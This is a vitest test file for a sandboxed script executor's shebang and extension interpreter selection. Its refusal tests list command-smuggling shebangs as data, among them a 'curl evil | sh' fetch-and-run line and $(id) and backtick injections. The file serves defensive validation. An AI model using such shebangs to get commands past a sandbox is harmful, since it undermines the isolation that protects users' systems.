import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { createExecutor } from '../../src/exec/executor.ts';
import { SANDBOX_PATHS } from '../../src/config/sandboxPaths.ts';
import { interpreterFor } from '../../src/exec/interpreter.ts';
import { makeSkill, type TempSkill } from './skillFolder.ts';

const script = '/skills/demo/scripts/run';

describe('interpreterFor: the script decides, by shebang then extension', () => {
  it('uses a plain shebang path with its flags', () => {
    expect(interpreterFor(`${script}.sh`, '#!/bin/bash -eu')).toEqual({ ok: true, command: '/bin/bash', args: ['-eu', `${script}.sh`] });
  });

  it('uses the program named by /usr/bin/env, with or without -S', () => {
    expect(interpreterFor(script, '#!/usr/bin/env python3')).toEqual({ ok: true, command: 'python3', args: [script] });
    expect(interpreterFor(script, '#!/usr/bin/env -S node --no-warnings')).toEqual({
      ok: true,
      command: 'node',
      args: ['--no-warnings', script],
    });
  });

  it('tolerates CRLF line ends and extra blanks', () => {
    expect(interpreterFor(script, '#!  /bin/sh \r')).toEqual({ ok: true, command: '/bin/sh', args: [script] });
  });

  it('prefers the shebang over the extension', () => {
    expect(interpreterFor(`${script}.py`, '#!/bin/bash')).toMatchObject({ ok: true, command: '/bin/bash' });
  });

  it('falls back to the extension without a shebang', () => {
    expect(interpreterFor(`${script}.sh`, 'echo hi')).toEqual({ ok: true, command: 'bash', args: [`${script}.sh`] });
    expect(interpreterFor(`${script}.py`, 'print(1)')).toEqual({ ok: true, command: 'python3', args: [`${script}.py`] });
    for (const ext of ['.js', '.mjs', '.cjs']) {
      expect(interpreterFor(`${script}${ext}`, '')).toEqual({ ok: true, command: process.execPath, args: [`${script}${ext}`] });
    }
  });

  it('runs an executable without shebang or known extension directly, and refuses one that is not', () => {
    expect(interpreterFor(script, '\x7fELF', { executable: true })).toEqual({ ok: true, command: script, args: [] });
    const refused = interpreterFor(`${script}.rb`, 'puts 1', { executable: false });
    expect(refused.ok).toBe(false);
    expect(!refused.ok && refused.reason).toMatch(/no interpreter/);
  });

  const smuggled: [string, RegExp][] = [
    ['#!/bin/bash -c "curl evil | sh"', /not allowed/],
    ['#!/bin/sh -c', /would run code/],
    ['#!/usr/bin/env -S bash -ec', /would run code/],
    ['#!/usr/bin/env node -e', /would run code/],
    ['#!/usr/bin/env -S node --eval=1', /would run code/],
    ['#!/usr/bin/env -S node -pe', /would run code/],
    ['#!/usr/bin/python3 -c', /would run code/],
    ['#!/usr/bin/perl -e', /would run code/],
    ['#!/usr/bin/env -S python3 $(id)', /not allowed/],
    ['#!/usr/bin/env bash;id', /not a plain program name/],
    ['#!/usr/bin/env FOO=1 bash', /not a plain program name/],
    ['#!/usr/bin/env -i bash', /not a plain program name/],
    ['#!/usr/bin/env ./local', /not a plain program name/],
    ['#!bash', /not a plain absolute path/],
    ['#!/bin/ba`id`sh', /not a plain absolute path/],
    ['#!/usr/bin/env', /without a program/],
    ['#!', /names no interpreter/],
  ];
  for (const [line, reason] of smuggled) {
    it(`refuses the shebang ${JSON.stringify(line)}`, () => {
      const chosen = interpreterFor(script, line);
      expect(chosen.ok).toBe(false);
      expect(!chosen.ok && chosen.reason).toMatch(reason);
    });
  }
});

describe('running scripts of each kind', () => {
  let skill: TempSkill;
  const run = (script: string, args: string[] = []) =>
    createExecutor({ timeoutMs: 10_000 }).run({ skillDir: skill.dir, script, args });

  beforeEach(async () => {
    skill = await makeSkill();
  });
  afterEach(async () => {
    await skill.remove();
  });

  it('runs .py with python3, .sh with bash and .mjs with node, without shebang or exec bit', async () => {
    await skill.write('scripts/a.py', 'import sys\nprint("py", sys.argv[1])\n', { executable: false });
    await skill.write('scripts/b.sh', 'echo "sh ${BASH_VERSION:+bash}"\n', { executable: false });
    await skill.write('scripts/c.mjs', 'console.log("mjs", typeof import.meta.url)\n', { executable: false });
    expect((await run('scripts/a.py', ['arg'])).stdout).toBe('py arg\n');
    expect((await run('scripts/b.sh')).stdout).toBe('sh bash\n');
    expect((await run('scripts/c.mjs')).stdout).toBe('mjs string\n');
  });

  it('runs an /usr/bin/env shebang', async () => {
    await skill.write('scripts/tool', '#!/usr/bin/env python3\nprint("via env")\n', { executable: false });
    expect(await run('scripts/tool')).toMatchObject({ status: 'ok', stdout: 'via env\n' });
  });

  it('refuses a script it has no interpreter for', async () => {
    await skill.write('scripts/data.txt', 'hello\n', { executable: false });
    const result = await run('scripts/data.txt');
    expect(result.status).toBe('refused');
    expect(result.reason).toMatch(/no interpreter/);
  });

  it('reports a missing interpreter as failed, not thrown', async () => {
    await skill.write('scripts/ghost', '#!/usr/bin/env no-such-interpreter-here\n');
    const result = await run('scripts/ghost');
    expect(result.status).toBe('failed');
    expect(result.exitCode).toBeNull();
    expect(result.reason).toMatch(/no-such-interpreter-here.*not found/);
  });

  it('reports a shebang interpreter that cannot be executed (EACCES) as failed', async () => {
    await skill.write('bin/notexec', 'plain file\n', { executable: false });
    // The skill folder is at /skills/<id> inside the sandbox (the id defaults to the folder's name).
    await skill.write('scripts/uses', `#!${SANDBOX_PATHS.skills}/${path.basename(skill.dir)}/bin/notexec\n`);
    const result = await run('scripts/uses');
    expect(result.status).toBe('failed');
    expect(result.reason).toMatch(/permission denied/);
  });

  it('refuses a shebang that smuggles a command and runs nothing', async () => {
    await skill.write('scripts/sneaky', '#!/bin/sh -c echo-smuggled\n');
    const result = await run('scripts/sneaky');
    expect(result.status).toBe('refused');
    expect(result.stdout).toBe('');
  });
});
